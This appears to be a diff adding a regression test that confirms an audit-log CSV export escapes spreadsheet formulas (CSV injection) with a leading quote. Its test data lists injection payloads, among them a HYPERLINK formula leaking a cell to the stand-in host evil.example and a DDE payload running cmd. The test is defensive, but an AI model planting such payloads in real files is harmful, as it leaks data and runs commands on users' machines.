@@ -63,3 +63,34 @@ def test_a_range_that_ends_before_it_starts_is_refused(api: Api) -> None:
     assert api.get("/api/audit", params={"since": now.isoformat(), "until": now.isoformat()}).status_code == 422
     assert api.client.get("/api/audit/export").status_code == 401
     assert api.get("/api/audit/export", params={"format": "xml"}, user="erin").status_code == 422
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_no_csv_cell_starts_a_spreadsheet_formula(api: Api) -> None:
+    """Issue 56: a device's model, subscriber or firmware, an actor or any other text starting with
+    ``= + - @``, a tab or a carriage return was written as is, and a spreadsheet opening the export ran
+    it as a formula (CSV injection). Each such cell is prefixed with ``'`` (OWASP); JSON stays exact."""
+    from core import audit
+    from core.store import repo
+
+    dev_id = api.get("/api/devices", params={"limit": 1}).json()["items"][0]["id"]
+    with api.rt.store.read() as s:
+        dev = repo.get_device(s, dev_id)
+    with api.rt.store.write() as s:
+        for bad in FORMULAS:
+            audit.append(s, actor=bad, action="test.formula", data={"note": bad},
+                         device=dev.model_copy(update={"model": bad, "subscriber": bad, "firmware": bad}))
+    r = api.get("/api/audit/export", params={"format": "csv", "action": "test.formula"}, user="erin")
+    assert r.status_code == 200, r.text
+    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
+    assert [x["actor"] for x in rows] == ["'" + bad for bad in FORMULAS]
+    for x in rows:
+        for column in ("model", "subscriber", "firmware"):
+            assert x[column] == x["actor"], (column, x)
+        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in x.values()), x
+        assert json.loads(x["data"])["note"] == x["actor"][1:]  # the JSON column keeps the value itself
+    exact = api.get("/api/audit/export", params={"format": "json", "action": "test.formula"}, user="erin").json()
+    assert [e["actor"] for e in exact] == FORMULAS
